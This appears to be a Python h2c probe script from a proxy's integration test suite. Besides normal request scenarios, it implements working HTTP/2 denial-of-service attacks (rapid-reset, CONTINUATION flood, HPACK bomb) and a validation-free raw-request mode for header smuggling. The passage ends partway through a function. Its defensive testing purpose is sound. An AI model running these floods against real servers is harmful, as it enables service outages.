#!/usr/bin/python3
"""HTTP/2 cleartext probe for meshgate-proxy's integration tests.

Speaks h2c with prior knowledge (no Upgrade, no TLS) to one host:port and runs one
scenario per invocation. Every subcommand prints exactly ONE JSON object on stdout that
describes what the probe observed, so a C++ test can parse it and assert on fields:

  get                  one GET; optional tiny flow-control window and slow reader
  post                 one POST with a deterministic body and optional request trailers
  multiplex            N concurrent GETs on one connection
  rapid-reset          HEADERS + RST_STREAM(CANCEL) per stream, as fast as possible
  continuation-flood   HEADERS without END_HEADERS, then CONTINUATION frames forever
  reset-with-body      streams that send body and are reset in the same write, then an upload
  early-data           HEADERS + the whole DATA in one write (body checks before routing)
  empty-body           HEADERS, then an empty DATA frame with END_STREAM
  hpack-bomb           one small header block that HPACK expands into a huge header list
  abandon-upload       a POST whose response ends before its body does; then RST_STREAM
  raw-request          one request with the fields exactly as given, unchecked (smuggling)
  stall-get            one GET that stops reading at its window until SIGUSR1, then reads all

Exit status: 0 when the scenario ran, whatever the server did (refusals, resets, GOAWAY
and closes are observations, reported in the JSON); 2 on usage errors or when the TCP
connection cannot be established (message on stderr).

Bounded: every socket read has a timeout (--timeout, default 5 s) and each scenario has
an overall deadline (--deadline, default 60 s), so the probe never hangs.

Request/response subcommands drive the h2 state machine (python3-h2), which also checks
the server's side of the protocol: a DATA frame beyond the window we advertised is
reported as "flow_control_violation", any other protocol breach as "protocol_error".
The two flood subcommands write frames h2 will not produce (or would answer on its own)
with hyperframe and hpack directly.

Needs /usr/bin/python3 with the Debian packages python3-h2, python3-hyperframe and
python3-hpack.
"""

import argparse
import hashlib
import json
import select
import signal
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings
import hpack
import hyperframe.frame as hf

CLOSED = h2.connection.ConnectionState.CLOSED
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
USER_AGENT = "meshgate-h2-probe/1"
BODY_PATTERN = bytes(range(251))  # request bodies are byte i = i % 251


class UsageError(Exception):
    """Bad arguments: exit 2."""


class ConnectError(Exception):
    """The TCP connection could not be established: exit 2."""


def error_name(code):
    """An HTTP/2 error code as its RFC 9113 name ("CANCEL"), or the number if unknown."""
    if code is None:
        return None
    try:
        return h2.errors.ErrorCodes(int(code)).name
    except ValueError:
        return int(code)


def body_bytes(offset, length):
    """Bytes [offset, offset+length) of the deterministic request body (i % 251)."""
    start = offset % len(BODY_PATTERN)
    reps = (start + length) // len(BODY_PATTERN) + 1
    return (BODY_PATTERN * reps)[start:start + length]


def decode(value):
    return value.decode("utf-8", "backslashreplace") if isinstance(value, bytes) else value


def header_pairs(headers):
    return [[decode(k), decode(v)] for k, v in headers]


def parse_kv(items, sep, what):
    """["k=v", ...] -> [(k, v), ...]; header names are lower-cased as HTTP/2 requires."""
    pairs = []
    for item in items or []:
        key, found, value = item.partition(sep)
        if not found or not key:
            raise UsageError(f"{what} must look like name{sep}value, got {item!r}")
        pairs.append((key.lower(), value))
    return pairs


class Connection:
    """A TCP connection with bounded reads: per-read timeout and an overall deadline."""

    def __init__(self, host, port, timeout, deadline):
        self.timeout = timeout
        self.deadline = time.monotonic() + deadline
        self.closed = False      # the peer closed (EOF or reset) or a write failed
        self.read_done = False   # EOF or reset seen on the read side
        self.close_how = None    # "eof", "reset" (ECONNRESET) or "write_failed"
        self.timed_out = False   # a read waited --timeout (or the deadline passed)
        try:
            self.sock = socket.create_connection((host, port), timeout=timeout)
        except OSError as e:
            raise ConnectError(f"connect to {host}:{port} failed: {e}") from e
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)

    def close(self):
        self.sock.close()

    def send(self, data):
        """Write all of data; returns False (and marks closed) if the peer is gone."""
        if self.closed or not data:
            return not self.closed
        try:
            self.sock.sendall(data)
            return True
        except OSError:  # EPIPE, ECONNRESET, or a send that timed out
            self.closed = True
            self.close_how = self.close_how or "write_failed"
            return False

    def recv(self, wait=True):
        """Bytes from the peer; b"" when closed, timed out, or (wait=False) none pending.

        Reads still work after a failed write: a GOAWAY the server sent before closing
        may be waiting in the receive queue.
        """
        if self.read_done or self.timed_out:
            return b""
        remaining = self.deadline - time.monotonic()
        if remaining <= 0:
            self.timed_out = True
            return b""
        if not wait:
            readable, _, _ = select.select([self.sock], [], [], 0)
            if not readable:
                return b""
        self.sock.settimeout(min(self.timeout, remaining))
        try:
            data = self.sock.recv(65536)
        except socket.timeout:
            self.timed_out = True
            return b""
        except OSError:  # ECONNRESET
            self.closed = self.read_done = True
            self.close_how = "reset"
            return b""
        if not data:
            self.closed = self.read_done = True
            self.close_how = "eof"
        return data

    @property
    def done(self):
        return self.closed or self.timed_out

    @property
    def finished_reading(self):
        return self.read_done or self.timed_out


class Stream:
    """What the probe saw on one request stream."""

    def __init__(self, stream_id):
        self.stream_id = stream_id
        self.status = None
        self.informational = []
        self.headers = []
        self.trailers = []
        self.body_bytes = 0
        self.body_head = b""  # the first 1 KiB of the body, for short answers such as errors
        self.body_hash = hashlib.sha256()
        self.max_data_frame = 0
        self.reset = None
        self.ended = False
        self.unprocessed = False  # above a GOAWAY's last_stream_id

    @property
    def finished(self):
        return self.ended or self.reset is not None or self.unprocessed

    def report(self):
        return {
            "status": self.status,
            "headers": header_pairs(self.headers),
            "body_bytes": self.body_bytes,
            "body_sha256": self.body_hash.hexdigest(),
            "body_head": self.body_head.decode("latin-1"),
            "trailers": header_pairs(self.trailers),
            "max_data_frame": self.max_data_frame,
            "reset": error_name(self.reset),
            "unprocessed": self.unprocessed,
        }


class Client:
    """An h2c client on top of python3-h2 that records everything the server does.

    Received DATA is acknowledged (h2's acknowledge_received_data, which emits
    WINDOW_UPDATEs) only after each socket read has been processed, and after an optional
    pause: a slow reader that the server's flow control must respect.
    """

    def __init__(self, args, window=None):
        self.authority = args.authority or f"{args.host}:{args.port}"
        self.read_delay = getattr(args, "read_delay_ms", 0) / 1000.0
        self.net = Connection(args.host, args.port, args.timeout, args.deadline)
        self.streams = {}
        self.buffer = bytearray()
        self.goaway = None
        self.last_stream_id = None
        self.flow_control_violation = False
        self.protocol_error = None
        self.settings_acked = False
        self.remote_settings_seen = False
        # True: received DATA is not acknowledged (no WINDOW_UPDATE) but kept in held_acks
        # per stream, until release_acks(): a reader that has stopped reading.
        self.hold_acks = False
        self.held_acks = {}

        self.h2 = h2.connection.H2Connection(
            config=h2.config.H2Configuration(client_side=True, header_encoding=None))
        settings = {
            h2.settings.SettingCodes.ENABLE_PUSH: 0,
            h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 100,
            h2.settings.SettingCodes.MAX_HEADER_LIST_SIZE: 65536,
        }
        if window is not None:
            settings[h2.settings.SettingCodes.INITIAL_WINDOW_SIZE] = window
        # Set before initiate_connection so the first SETTINGS frame carries them and h2
        # enforces the window on every stream we open.
        self.h2.local_settings = h2.settings.Settings(client=True, initial_values=settings)

    # -- connection lifecycle -------------------------------------------------------

    def handshake(self):
        """Send the preface + SETTINGS, wait for the server's SETTINGS and our ACK."""
        self.h2.initiate_connection()
        self.flush()
        while not (self.settings_acked and self.remote_settings_seen) and self.alive:
            self.pump()
        return self.alive

    @property
    def readable(self):
        """More can be learnt by reading: not closed, timed out, or failed by h2."""
        return (not self.net.finished_reading and not self.flow_control_violation
                and self.protocol_error is None)

    @property
    def alive(self):
        """New frames may be sent: readable, writes work, and no GOAWAY yet."""
        return self.readable and not self.net.closed and self.goaway is None

    def flush(self):
        self.net.send(self.h2.data_to_send())

    def close(self):
        if not self.net.closed and self.alive:
            self.h2.close_connection()
            self.flush()
        self.net.close()

    # -- reading --------------------------------------------------------------------

    def pump(self, wait=True):
        """One socket read: feed h2, record events, pause (slow reader), then ack DATA.

        Complete frames are fed to h2 one at a time so that a graceful GOAWAY can be
        followed by the responses it still covers (h2 4.1 would otherwise reject every
        frame after a GOAWAY as a protocol error).
        """
        data = self.net.recv(wait)
        if not data:
            return
        self.buffer += data
        to_ack = {}
        while len(self.buffer) >= 9 and self.readable:
            length = int.from_bytes(self.buffer[:3], "big")
            if length > self.h2.max_inbound_frame_size:
                length = len(self.buffer) - 9  # let h2 reject the header now
            elif len(self.buffer) < 9 + length:
                break
            frame = bytes(self.buffer[:9 + length])
            del self.buffer[:9 + length]
            try:
                events = self.h2.receive_data(frame)
            except h2.exceptions.FlowControlError as e:
                self.flow_control_violation = True
                self.protocol_error = f"FlowControlError: {e}"
            except h2.exceptions.ProtocolError as e:
                self.protocol_error = f"{type(e).__name__}: {e}"
            else:
                for event in events:
                    self.record(event, to_ack)
            if self.goaway is not None and self.h2.state_machine.state == CLOSED:
                # Keep receiving the streams the GOAWAY still covers; never send new ones.
                self.h2.state_machine.state = h2.connection.ConnectionState.CLIENT_OPEN
        if not self.readable:
            self.flush()  # h2 queued its GOAWAY
            return
        if self.hold_acks:
            for stream_id, size in to_ack.items():
                self.held_acks[stream_id] = self.held_acks.get(stream_id, 0) + size
            to_ack = {}
        if to_ack and self.read_delay:
            time.sleep(self.read_delay)
        for stream_id, size in to_ack.items():
            self.h2.acknowledge_received_data(size, stream_id)
        self.flush()

    def release_acks(self):
        """Acknowledge the DATA held back while hold_acks was set, and stop holding."""
        self.hold_acks = False
        held, self.held_acks = self.held_acks, {}
        for stream_id, size in held.items():
            try:
                self.h2.acknowledge_received_data(size, stream_id)
            except h2.exceptions.StreamClosedError:
                pass
        self.flush()

    def record(self, event, to_ack):
        E = h2.events
        stream = self.streams.get(getattr(event, "stream_id", None))
        if isinstance(event, E.ResponseReceived) and stream:
            stream.headers = list(event.headers)
            stream.status = next((int(v) for k, v in event.headers if k == b":status"), None)
        elif isinstance(event, E.InformationalResponseReceived) and stream:
            stream.informational.append(
                next((int(v) for k, v in event.headers if k == b":status"), None))
        elif isinstance(event, E.DataReceived):
            if stream:
                stream.body_bytes += len(event.data)
                stream.body_head += event.data[:max(0, 1024 - len(stream.body_head))]
                stream.body_hash.update(event.data)
                stream.max_data_frame = max(stream.max_data_frame, event.flow_controlled_length)
            if event.flow_controlled_length:
                to_ack[event.stream_id] = (to_ack.get(event.stream_id, 0)
                                           + event.flow_controlled_length)
        elif isinstance(event, E.TrailersReceived) and stream:
            stream.trailers = list(event.headers)
        elif isinstance(event, E.StreamEnded) and stream:
            stream.ended = True
        elif isinstance(event, E.StreamReset) and stream:
            stream.reset = event.error_code
        elif isinstance(event, E.ConnectionTerminated):
            self.goaway = event.error_code
            self.last_stream_id = event.last_stream_id
            for s in self.streams.values():
                if s.stream_id > event.last_stream_id:
                    s.unprocessed = True  # RFC 9113 §6.8: safe to retry elsewhere
        elif isinstance(event, E.SettingsAcknowledged):
            self.settings_acked = True
        elif isinstance(event, E.RemoteSettingsChanged):
            self.remote_settings_seen = True  # h2 queues the ACK itself

    def wait_for(self, predicate):
        """Read until predicate() holds or the connection can make no more progress."""
        while not predicate() and self.readable:
            self.pump()
        return predicate()

    # -- requests -------------------------------------------------------------------

    def request_headers(self, method, path, extra=()):
        return ([(":method", method), (":scheme", "http"), (":authority", self.authority),
                 (":path", path), ("user-agent", USER_AGENT)] + list(extra))

    def open_stream(self, method, path, extra=(), end_stream=True):
        stream_id = self.h2.get_next_available_stream_id()
        self.streams[stream_id] = Stream(stream_id)
        self.h2.send_headers(stream_id, self.request_headers(method, path, extra),
                             end_stream=end_stream)
        self.flush()
        return self.streams[stream_id]

    def send_body(self, stream, total):
        """Send `total` body bytes on stream within the server's flow-control windows.

        Stops early if the stream is answered-and-closed, reset or the connection dies.
        Returns (bytes sent, sha256 of them).
        """
        sent, digest = 0, hashlib.sha256()
        while sent < total and self.alive and not stream.finished:
            try:
                window = self.h2.local_flow_control_window(stream.stream_id)
            except h2.exceptions.StreamClosedError:
                break
            chunk = min(window, self.h2.max_outbound_frame_size, total - sent)
            if chunk <= 0:
                self.pump()  # wait for a WINDOW_UPDATE (or an early response)
                continue
            data = body_bytes(sent, chunk)
            try:
                self.h2.send_data(stream.stream_id, data)
            except h2.exceptions.StreamClosedError:
                break
            digest.update(data)
            sent += chunk
            self.flush()
            self.pump(wait=False)  # keep up with WINDOW_UPDATEs and early responses
        return sent, digest.hexdigest()

    def end_request(self, stream, trailers=()):
        try:
            if trailers:
                self.h2.send_headers(stream.stream_id, list(trailers), end_stream=True)
            else:
                self.h2.end_stream(stream.stream_id)
        except h2.exceptions.StreamClosedError:
            return False
        self.flush()
        return True

    # -- reporting ------------------------------------------------------------------

    def connection_report(self):
        return {
            "flow_control_violation": self.flow_control_violation,
            "protocol_error": self.protocol_error,
            "goaway": error_name(self.goaway),
            "last_stream_id": self.last_stream_id,
            "closed": self.net.closed,
            "close_how": self.net.close_how,
            "timed_out": self.net.timed_out,
        }


class RawClient:
    """Frame-level h2c client (hyperframe + hpack) for floods h2 will not produce.

    Answers the server's SETTINGS with an ACK (except inside an open header block, where
    any other frame would be a protocol error of ours) and otherwise only records what it
    reads: GOAWAY (code and last stream id), HEADERS per stream, RST_STREAM, PING ACKs.
    """

    def __init__(self, args):
        self.authority = args.authority or f"{args.host}:{args.port}"
        self.net = Connection(args.host, args.port, args.timeout, args.deadline)
        self.encoder = hpack.Encoder()
        self.buffer = bytearray()
        self.goaway = None
        self.last_stream_id = None
        self.response_streams = set()
        self.resets_received = 0
        self.ping_acked = False
        self.frame_error = None
        self.remote_settings_seen = False
        self.settings_acked = False
        self.in_header_block = False
        self.on_headers = None  # set to decode response header blocks
        self.first_status = None

    def handshake(self):
        """Preface + SETTINGS; read until the server's SETTINGS (ACKed) and our ACK."""
        settings = hf.SettingsFrame(0)
        settings.settings = {hf.SettingsFrame.ENABLE_PUSH: 0}
        if not self.net.send(PREFACE + settings.serialize()):
            return False
        while not (self.remote_settings_seen and self.settings_acked) and self.goaway is None:
            if not self.pump():
                return False
        return self.goaway is None and not self.net.closed

    def request_block(self, method, path, extra=()):
        """An HPACK block for a request (the encoder keeps the connection's table state)."""
        return self.encoder.encode(
            [(":method", method), (":scheme", "http"), (":authority", self.authority),
             (":path", path), ("user-agent", USER_AGENT)] + list(extra))

    def pump(self, wait=True):
        data = self.net.recv(wait)
        if not data:
            return False
        self.buffer += data
        while len(self.buffer) >= 9 and self.frame_error is None:
            try:
                frame, length = hf.Frame.parse_frame_header(memoryview(self.buffer[:9]))
                if len(self.buffer) < 9 + length:
                    break
                frame.parse_body(memoryview(self.buffer[9:9 + length]))
            except Exception as e:  # a malformed frame from the server is an observation
                self.frame_error = f"{type(e).__name__}: {e}"
                break
            del self.buffer[:9 + length]
            self.record(frame)
        return True

    def record(self, frame):
        if isinstance(frame, hf.SettingsFrame) and "ACK" in frame.flags:
            self.settings_acked = True
        elif isinstance(frame, hf.SettingsFrame):
            self.remote_settings_seen = True
            if not self.in_header_block:
                ack = hf.SettingsFrame(0)
                ack.flags.add("ACK")
                self.net.send(ack.serialize())
        elif isinstance(frame, hf.PingFrame) and "ACK" in frame.flags:
            self.ping_acked = True
        elif isinstance(frame, hf.GoAwayFrame):
            self.goaway = frame.error_code
            self.last_stream_id = frame.last_stream_id
        elif isinstance(frame, hf.HeadersFrame):
            self.response_streams.add(frame.stream_id)
            if self.on_headers and self.first_status is None:
                for name, value in self.on_headers(frame):
                    if name in (b":status", ":status"):
                        self.first_status = int(value)
        elif isinstance(frame, hf.RstStreamFrame):
            self.resets_received += 1

    def poll(self):
        """Read whatever is already pending without blocking."""
        while self.pump(wait=False):
            pass

    def drain(self):
        """Read until the server closes, the deadline passes, or a read times out."""
        while self.pump():
            pass

    def send_ping(self):
        ping = hf.PingFrame(0)
        ping.opaque_data = b"mgprobe!"
        return self.net.send(ping.serialize())

    def report(self):
        return {
            "goaway": error_name(self.goaway),
            "last_stream_id": self.last_stream_id,
            "closed": self.net.closed,
            "close_how": self.net.close_how,
            "timed_out": self.net.timed_out,
            "frame_error": self.frame_error,
        }


# -- subcommands --------------------------------------------------------------------


def cmd_get(args):
    """One GET.

    --window N advertises SETTINGS_INITIAL_WINDOW_SIZE=N, so each stream may receive at
    most N unacknowledged bytes. (The connection window starts at 65535 by RFC 9113
    §6.9.2 and SETTINGS cannot shrink it; the probe never grows it beyond that, and only
    re-opens it for bytes it has read.) --read-delay-ms D sleeps D ms after each socket
    read that brought DATA before acknowledging it: a slow reader. A server that sends
    beyond the window is reported as flow_control_violation: true.
    """
    if args.window is not None and not 1 <= args.window <= 2**31 - 1:
        raise UsageError("--window must be in [1, 2^31-1]")
    client = Client(args, window=args.window)
    result = {"status": None}
    if client.handshake():
        stream = client.open_stream("GET", args.path, parse_kv(args.header, ":", "--header"))
        client.wait_for(lambda: stream.finished)
        result = stream.report()
        result["informational"] = stream.informational
    result.update(client.connection_report())
    client.close()
    return result


def cmd_post(args):
    """One POST (or --method) carrying --body-bytes N deterministic bytes (byte i is i % 251).

    The body is sent in DATA frames no larger than the server's SETTINGS_MAX_FRAME_SIZE
    and never beyond its stream and connection windows (the probe waits for
    WINDOW_UPDATEs). --trailer k=v (repeatable) ends the request with a trailers HEADERS
    frame instead of END_STREAM on the last DATA. --content-length adds the header.
    Reports what get reports plus sent_bytes and sent_sha256 (compare with an echo).
    """
    if args.body_bytes < 0:
        raise UsageError("--body-bytes must be >= 0")
    trailers = parse_kv(args.trailer, "=", "--trailer")
    extra = parse_kv(args.header, ":", "--header")
    if args.content_length:
        extra.append(("content-length", str(args.body_bytes)))
    client = Client(args)
    result = {"status": None}
    sent, sent_sha = 0, hashlib.sha256().hexdigest()
    if client.handshake():
        stream = client.open_stream(args.method, args.path, extra, end_stream=False)
        sent, sent_sha = client.send_body(stream, args.body_bytes)
        if sent == args.body_bytes and client.alive and not stream.finished:
            client.end_request(stream, trailers)
        client.wait_for(lambda: stream.finished)
        result = stream.report()
        result["informational"] = stream.informational
    result.update({"sent_bytes": sent, "sent_sha256": sent_sha})
    result.update(client.connection_report())
    client.close()
    return result


def cmd_multiplex(args):
    """--streams N concurrent GETs of --path on one connection.

    Keeps as many streams open as the server's SETTINGS_MAX_CONCURRENT_STREAMS allows,
    opening the next as one finishes. Reports how many streams got each status, resets
    by code, total body bytes, and the distinct body digests (one if all bodies match).
    """
    if args.streams < 1:
        raise UsageError("--streams must be >= 1")
    client = Client(args)
    extra = parse_kv(args.header, ":", "--header")
    opened, peak = 0, 0
    if client.handshake():
        while client.readable:
            limit = client.h2.remote_settings.max_concurrent_streams
            while (client.alive and opened < args.streams
                   and client.h2.open_outbound_streams < limit):
                client.open_stream("GET", args.path, extra)
                opened += 1
            peak = max(peak, client.h2.open_outbound_streams)
            if (all(s.finished for s in client.streams.values())
                    and (opened == args.streams or not client.alive)):
                break
            client.pump()
    streams = client.streams.values()
    statuses, resets = {}, {}
    for s in streams:
        if s.status is not None:
            statuses[str(s.status)] = statuses.get(str(s.status), 0) + 1
        if s.reset is not None:
            name = str(error_name(s.reset))
            resets[name] = resets.get(name, 0) + 1
    result = {
        "streams_requested": args.streams,
        "streams_opened": opened,
        "completed": sum(1 for s in streams if s.ended),
        "unprocessed": sum(1 for s in streams if s.unprocessed),
        "statuses": statuses,
        "resets": resets,
        "total_body_bytes": sum(s.body_bytes for s in streams),
        "body_sha256s": sorted({s.body_hash.hexdigest() for s in streams if s.ended}),
        "peak_concurrent": peak,
    }
    result.update(client.connection_report())
    client.close()
    return result


def cmd_rapid_reset(args):
    """CVE-2023-44487: --streams N streams, each a HEADERS immediately followed by
    RST_STREAM(CANCEL), written in batches of --batch streams as fast as the socket
    takes them, with stream ids from --first-stream-id on (default 1; a client may skip
    ids). Stops early on GOAWAY or close; then sends a PING and reads until the
    server closes or a read times out. Reports streams_sent, the GOAWAY code name and
    last_stream_id, closed, responses_received (streams that got a response HEADERS),
    resets_received and ping_acked (the connection still answers).
    """
    if args.streams < 1 or args.batch < 1:
        raise UsageError("--streams and --batch must be >= 1")
    first = args.first_stream_id
    if first < 1 or first % 2 == 0 or first + 2 * (args.streams - 1) > 2**31 - 1:
        raise UsageError("--first-stream-id must be odd, and the last id below 2^31")
    raw = RawClient(args)
    sent = 0
    if raw.handshake():
        while sent < args.streams and raw.goaway is None and not raw.net.closed:
            batch = bytearray()
            ids = range(first + 2 * sent, first + 2 * min(sent + args.batch, args.streams), 2)
            for stream_id in ids:
                headers = hf.HeadersFrame(stream_id)
                headers.flags.add("END_HEADERS")
                headers.flags.add("END_STREAM")
                headers.data = raw.request_block("GET", args.path)
                reset = hf.RstStreamFrame(stream_id)
                reset.error_code = h2.errors.ErrorCodes.CANCEL
                batch += headers.serialize() + reset.serialize()
            if not raw.net.send(bytes(batch)):
                break
            sent += len(ids)
            raw.poll()
        if raw.goaway is None and not raw.net.closed:
            raw.send_ping()
        raw.drain()
    result = {"streams_sent": sent, "responses_received": len(raw.response_streams),
              "resets_received": raw.resets_received, "ping_acked": raw.ping_acked}
    result.update(raw.report())
    raw.net.close()
    return result


def literal_without_indexing(name, value):
    """HPACK "Literal Header Field without Indexing -- New Name" (RFC 7541 §6.2.2)."""
    return (b"\x00" + hpack.hpack.encode_integer(len(name), 7) + name
            + hpack.hpack.encode_integer(len(value), 7) + value)


def cmd_continuation_flood(args):
    """CVE-2024-27316 family: a request HEADERS frame (valid :method/:path/:scheme/
    :authority block, END_STREAM, no END_HEADERS) on stream 1, then --frames N
    CONTINUATION frames, each one HPACK literal without indexing "x-flood-<i>: v",
    none with END_HEADERS, so the header block never ends. Written in batches of
    --batch frames until the server closes or N are sent, then reads until the server
    closes or a read times out. frames_sent counts CONTINUATION frames the kernel
    accepted (not necessarily read by the server).
    """
    if args.frames < 0 or args.batch < 1:
        raise UsageError("--frames must be >= 0 and --batch >= 1")
    raw = RawClient(args)
    sent = 0
    if raw.handshake():
        raw.in_header_block = True
        headers = hf.HeadersFrame(1)
        headers.flags.add("END_STREAM")
        headers.data = raw.request_block("GET", args.path)
        if raw.net.send(headers.serialize()):
            while sent < args.frames and not raw.net.closed and raw.goaway is None:
                batch = bytearray()
                count = min(args.batch, args.frames - sent)
                for i in range(sent, sent + count):
                    frame = hf.ContinuationFrame(1)
                    frame.data = literal_without_indexing(f"x-flood-{i}".encode(), b"v")
                    batch += frame.serialize()
                if not raw.net.send(bytes(batch)):
                    break
                sent += count
                raw.poll()
            raw.drain()
    result = {"frames_sent": sent, "responses_received": len(raw.response_streams),
              "resets_received": raw.resets_received}
    result.update(raw.report())
    raw.net.close()
    return result


def cmd_reset_with_body(args):
    """--rounds N streams, each HEADERS (POST) + --body-bytes B of DATA + RST_STREAM(CANCEL)
    written in one write (so the server sees the whole stream in one read), then one honest
    POST of --upload-bytes U with content-length. A server that never gives the reset
    streams' bytes back to the connection window stalls the honest upload. Reports
    upload (the honest stream's report), connection_window_before_upload (ours to send).
    """
    if args.rounds < 0 or args.body_bytes < 0 or args.upload_bytes < 0:
        raise UsageError("--rounds, --body-bytes and --upload-bytes must be >= 0")
    client = Client(args)
    result = {"upload": None}
    if client.handshake():
        for _ in range(args.rounds):
            stream_id = client.h2.get_next_available_stream_id()
            client.h2.send_headers(stream_id, client.request_headers("POST", args.path))
            left = min(args.body_bytes, client.h2.local_flow_control_window(stream_id))
            while left > 0:
                n = min(left, client.h2.max_outbound_frame_size)
                client.h2.send_data(stream_id, body_bytes(0, n))
                left -= n
            client.h2.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
            client.flush()
            client.pump(wait=False)
        result["connection_window_before_upload"] = client.h2.outbound_flow_control_window
        stream = client.open_stream("POST", args.path,
                                    [("content-length", str(args.upload_bytes))],
                                    end_stream=False)
        sent, _ = client.send_body(stream, args.upload_bytes)
        if sent == args.upload_bytes and client.alive and not stream.finished:
            client.end_request(stream)
        client.wait_for(lambda: stream.finished)
        result["upload"] = stream.report()
        result["upload"]["sent_bytes"] = sent
    result.update(client.connection_report())
    client.close()
    return result


def cmd_early_data(args):
    """One POST without content-length whose HEADERS and whole body (--body-bytes N, at
    most one frame) go in one write: the server has the body before it routes the request.
    """
    if not 0 <= args.body_bytes <= 16384:
        raise UsageError("--body-bytes must be in [0, 16384]")
    client = Client(args)
    result = {"status": None}
    if client.handshake():
        stream_id = client.h2.get_next_available_stream_id()
        client.streams[stream_id] = Stream(stream_id)
        client.h2.send_headers(stream_id, client.request_headers("POST", args.path))
        client.h2.send_data(stream_id, body_bytes(0, args.body_bytes), end_stream=True)
        client.flush()
        stream = client.streams[stream_id]
        client.wait_for(lambda: stream.finished)
        result = stream.report()
    result.update(client.connection_report())
    client.close()
    return result


def cmd_empty_body(args):
    """One request (--method, default PUT) whose HEADERS do not end the stream, followed by
    an empty DATA frame with END_STREAM: a body that turns out to be empty.
    """
    client = Client(args)
    result = {"status": None}
    if client.handshake():
        stream = client.open_stream(args.method, args.path, end_stream=False)
        client.h2.send_data(stream.stream_id, b"", end_stream=True)
        client.flush()
        client.wait_for(lambda: stream.finished)
        result = stream.report()
    result.update(client.connection_report())
    client.close()
    return result


def cmd_hpack_bomb(args):
    """One GET whose header block (HEADERS + --frames CONTINUATION frames of 16 KiB, END_HEADERS
    on the last) adds one 4000-byte field to the HPACK dynamic table and then references it
    with one-byte indexed fields until the block is full: ~150 KB on the wire that decode
    into ~600 MB of header list. Reports status (a server should answer 431 or reset the
    stream without storing the list) and the connection's fate.
    """
    if not 0 <= args.frames <= 64:
        raise UsageError("--frames must be in [0, 64]")
    raw = RawClient(args)
    status = None
    if raw.handshake():
        block = raw.request_block("GET", args.path)
        # Literal with incremental indexing, new name (RFC 7541 §6.2.1): becomes index 62.
        name, value = b"x-bomb", b"a" * 4000
        block += (b"\x40" + hpack.hpack.encode_integer(len(name), 7) + name
                  + hpack.hpack.encode_integer(len(value), 7) + value)
        total = 16384 * (args.frames + 1)
        block += bytes([0x80 | 62]) * (total - len(block))  # indexed field 62, 1 byte each
        pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        out = bytearray()
        for i, piece in enumerate(pieces):
            frame = hf.HeadersFrame(1) if i == 0 else hf.ContinuationFrame(1)
            if i == 0:
                frame.flags.add("END_STREAM")
            if i == len(pieces) - 1:
                frame.flags.add("END_HEADERS")
            frame.data = piece
            out += frame.serialize()
        raw.in_header_block = True
        raw.net.send(bytes(out))
        raw.in_header_block = False
        decoder = hpack.Decoder()
        raw.on_headers = lambda frame: decoder.decode(frame.data)
        raw.drain()
        status = raw.first_status
    result = {"status": status, "resets_received": raw.resets_received}
    result.update(raw.report())
    raw.net.close()
    return result


def cmd_abandon_upload(args):
    """One POST that sends --body-bytes N but never ends its body; once the response has
    ended (an origin may answer early), the client gives up the stream with
    RST_STREAM(CANCEL). Then a plain GET of --path on the same connection, to show it still
    works. Reports the POST's stream report and "after" (the GET's).
    """
    client = Client(args)
    result = {"status": None}
    if client.handshake():
        stream = client.open_stream("POST", args.path, end_stream=False)
        client.send_body(stream, args.body_bytes)
        client.wait_for(lambda: stream.finished)
        result = stream.report()
        try:
            client.h2.reset_stream(stream.stream_id, h2.errors.ErrorCodes.CANCEL)
            client.flush()
        except h2.exceptions.StreamClosedError:
            result["already_closed"] = True
        after = client.open_stream("GET", args.path)
        client.wait_for(lambda: after.finished)
        result["after"] = after.report()
    result.update(client.connection_report())
    client.close()
    return result


def cmd_raw_request(args):
    """One request whose fields go out exactly as given, pseudo-fields included and in order,
    with python3-h2's own checks turned off: what a hostile client can put on the wire.

    --field NAME=VALUE (repeated; split at the first "="; Python escapes such as \\r, \\n
    and \\x00 are decoded), then --data TEXT as one DATA frame if given. Reports the
    stream as get does.
    """
    fields = []
    for item in args.field or []:
        name, found, value = item.partition("=")
        if not found or not name:
            raise UsageError(f"--field must look like name=value, got {item!r}")
        decode = lambda t: t.encode("latin-1").decode("unicode_escape").encode("latin-1")
        fields.append((decode(name), decode(value)))
    client = Client(args)
    result = {"status": None}
    if client.handshake():
        client.h2.config.validate_outbound_headers = False
        client.h2.config.normalize_outbound_headers = False
        stream_id = client.h2.get_next_available_stream_id()
        stream = client.streams[stream_id] = Stream(stream_id)
        client.h2.send_headers(stream_id, fields, end_stream=args.data is None)
        if args.data is not None:
            client.h2.send_data(stream_id, args.data.encode("latin-1"), end_stream=True)
        client.flush()
        client.wait_for(lambda: stream.finished)
        result = stream.report()
    result.update(client.connection_report())
    client.close()
    return result


def cmd_stall_get(args):
    """One GET whose reader stops: --window N advertises SETTINGS_INITIAL_WINDOW_SIZE=N and
    no DATA is acknowledged, so the server may send at most min(N, 65535) body bytes (the
    connection window starts at 65535). Once that much has arrived (or the stream ended),
    the probe prints "STALLED <body bytes>" on a line of its own, before the JSON, and waits
    for SIGUSR1 (at most until --deadline). Then it acknowledges what it holds, opens the
    stream and connection windows by --resume-window more, and reads the response to its
    end as get does. Reports what get reports plus stalled_bytes (body bytes at the stall)
    and resumed (false when no SIGUSR1 came).
    """
    if not 1 <= args.window <= 2**31 - 1 or not 0 <= args.resume_window <= 2**31 - 1:
        raise UsageError("--window must be in [1, 2^31-1], --resume-window in [0, 2^31-1]")
    # Blocked before anything else: a SIGUSR1 sent as soon as STALLED is read is queued.
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR1})
    client = Client(args, window=args.window)
    client.hold_acks = True
    result = {"status": None, "stalled_bytes": None, "resumed": False}
    if client.handshake():
        stream = client.open_stream("GET", args.path)
        allowance = min(args.window, 65535)
        client.wait_for(lambda: stream.finished or stream.body_bytes >= allowance)
        stalled = stream.body_bytes
        print(f"STALLED {stalled}", flush=True)
        remaining = client.net.deadline - time.monotonic()
        resumed = remaining > 0 and signal.sigtimedwait({signal.SIGUSR1}, remaining) is not None
        if resumed and client.readable:
            client.release_acks()
            if args.resume_window and not stream.finished:
                client.h2.increment_flow_control_window(args.resume_window, stream.stream_id)
                client.h2.increment_flow_control_window(args.resume_window)
                client.flush()
            client.wait_for(lambda: stream.finished)
        result = stream.report()
